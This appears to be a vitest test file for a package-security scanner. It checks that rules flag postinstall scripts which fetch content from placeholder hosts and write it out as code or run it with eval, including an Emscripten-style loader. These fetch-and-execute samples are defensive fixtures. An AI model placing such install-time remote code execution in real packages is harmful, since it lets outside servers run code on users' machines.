// Fetched text in files of code: as data it is none, and what a compiled module brings along is its own.
import { expect, test } from 'vitest';
import { vetTexts } from './vet-fixture.ts';

const gradesOf = (rule: string, text: string) =>
  vetTexts(
    new Map([
      [
        'package.json',
        '{"name":"acme","version":"1.0.0","scripts":{"postinstall":"node index.js"}}',
      ],
      ['index.js', text],
    ]),
  )
    .threats.filter(({ ruleId }) => ruleId === rule)
    .map(({ severity }) => severity);

const settings = (content: string) => `const { writeFile } = require('node:fs/promises');
const { join } = require('node:path');
async function run() {
  const answer = await (await fetch('https://settings.example/app')).json();
  await writeFile(join(__dirname, 'dist', 'defaults.js'), ${content});
}
run();`;

test.each([
  ['`exports.defaults = () => (${JSON.stringify(answer)});`', ['low']],
  ['`exports.defaults = () => (${answer.text});`', ['critical']],
  ['`exports.defaults = () => eval(${JSON.stringify(answer)});`', ['critical']],
  ['answer.code', ['critical']],
])('what was fetched is written as %s', (content, grades) =>
  expect(gradesOf('self-update', settings(content))).toEqual(grades),
);

const glue = (name: string, make: string) => `async function load(url) {
  const bytes = await (await fetch(url)).text();
  ${make}
  function ${name}(body) { return eval('(a) => {' + body + '}'); }
  const UTF8ToString = (at) => bytes.slice(at);
  return ${name}(UTF8ToString(0));
}
load('https://modules.example/a.wasm');`;

test('a compiled module brings its own lines along', () => {
  const grade = (name: string, make: string) => gradesOf('fetched-code-executed', glue(name, make));
  expect(grade('addEmAsm', 'const m = new WebAssembly.Module(bytes);')).toEqual(['moderate']);
  expect(grade('addEmAsm', '')).toEqual(['critical']);
  expect(grade('addLines', 'const m = new WebAssembly.Module(bytes);')).toEqual(['critical']);
});
